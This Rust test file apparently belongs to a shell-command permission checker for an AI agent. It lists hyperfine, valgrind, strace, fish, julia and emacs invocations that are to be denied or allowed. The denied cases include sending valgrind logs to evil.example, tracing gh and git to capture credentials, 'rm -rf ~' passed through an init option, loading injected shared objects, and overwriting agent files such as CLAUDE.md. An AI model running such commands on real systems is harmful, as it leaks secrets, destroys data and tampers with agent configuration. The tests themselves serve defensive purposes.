//! Launchers: options that write, load or run before the command that they start.

use super::*;

#[test]
fn launchers_know_only_their_own_options() {
    none_allowed(&[
        "hyperfine --export-json /home/ada/x ls",
        "hyperfine --export-csv=/home/ada/x ls",
        "hyperfine --export-json CLAUDE.md ls",
        "hyperfine ls --export-json /home/ada/x",
        "hyperfine --frob ls",
        "valgrind --log-socket=evil.example:1500 ./a",
        "valgrind --debuginfo-server=evil.example:1500 ./a",
        "valgrind --vgdb-prefix=/home/ada/x ./a",
        "valgrind --callgrind-out-file=/home/ada/x ./a",
        "perf report --objdump=/home/ada/evil",
        "perf annotate --objdump=./evil",
        "xvfb-run --frob npm test",
        "fakeroot -l ./evil.so make",
    ]);
    all(
        Decision::Allow,
        &[
            "hyperfine --export-json out.json -N -w 3 -r 10 ls",
            "hyperfine -i -u millisecond 'sleep 1'",
            "valgrind --leak-check=full --track-origins=yes ./a",
            "valgrind -q --error-exitcode=1 --tool=memcheck ./a",
            "nohup make test",
            "xvfb-run -a npm test",
        ],
    );
}

#[test]
fn tracers_that_show_data_do_not_trace_programs_with_credentials() {
    none_allowed(&[
        "strace -s 9999 gh auth status",
        "strace -f -s 9999 git fetch",
        "strace -fs9999 git status",
        "strace --string-limit=9999 git status",
        "strace -s 9999 bash -c 'git status'",
        "strace -e read=3 git status",
        "strace -e trace=read git status",
        "ltrace -s 9999 gh auth status",
    ]);
    all(
        Decision::Allow,
        &[
            "strace -f -e trace=openat ls",
            "strace ./a",
            "strace -s 200 ./a",
            "strace -f -e trace=openat git status",
        ],
    );
}

#[test]
fn options_before_a_script_are_known_or_doubted() {
    none_allowed(&[
        "fish -C 'rm -rf ~' x",
        "fish --init-command='rm -rf ~' x",
        "fish --command='id' x",
        "fish --profile=AGENTS.md x",
        "bash --debugger x",
        "yash --rcfile=./x y",
        "tcsh -Z x",
        "julia -J./x.so y.jl",
        "julia --sysimage ./x.so y.jl",
        "julia --project=/tmp/x y.jl",
        "sbcl --core ./x y.lisp",
        "racket -t x",
        "nu --plugins ./x y.nu",
        "xonsh --rc evil x",
        "scala -cp /tmp/x a.scala",
        "Rscript --default-packages=evil x.R",
        "emacs --exec '(shell-command \"id\")' x",
        "emacs x",
    ]);
    all(
        Decision::Allow,
        &[
            "fish a.fish",
            "fish -N a.fish",
            "bash --noprofile --norc a.sh",
            "julia --project=. a.jl",
            "julia --project test/runtests.jl",
            "julia -t 4 a.jl",
            "Rscript --vanilla a.R",
            "octave --no-gui a.m",
            "sbcl --script a.lisp",
        ],
    );
}
